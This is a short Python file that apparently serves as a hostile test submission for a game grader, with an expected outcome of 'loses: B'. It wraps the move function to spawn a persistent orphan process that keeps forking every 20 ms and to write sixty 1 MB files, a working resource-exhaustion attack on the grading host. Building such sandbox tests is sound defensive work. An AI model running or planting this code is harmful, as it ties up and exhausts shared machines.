# Writes for ever, while an orphan that ends every 20 ms keeps the grader busy.
# base: dict_board
# loses: B

import os
import select

right = get_current_player


def get_current_player(round):
    if os.fork() == 0:
        while True:
            child = os.fork()
            if child == 0:
                os.fork()
                os._exit(0)
            os.waitpid(child, 0)
            select.select([], [], [], 0.02)
    for number in range(60):
        with open(f"file-{number}", "wb", 0) as file:
            file.write(bytes(1_000_000))
        select.select([], [], [], 0.005)
    return right(round)
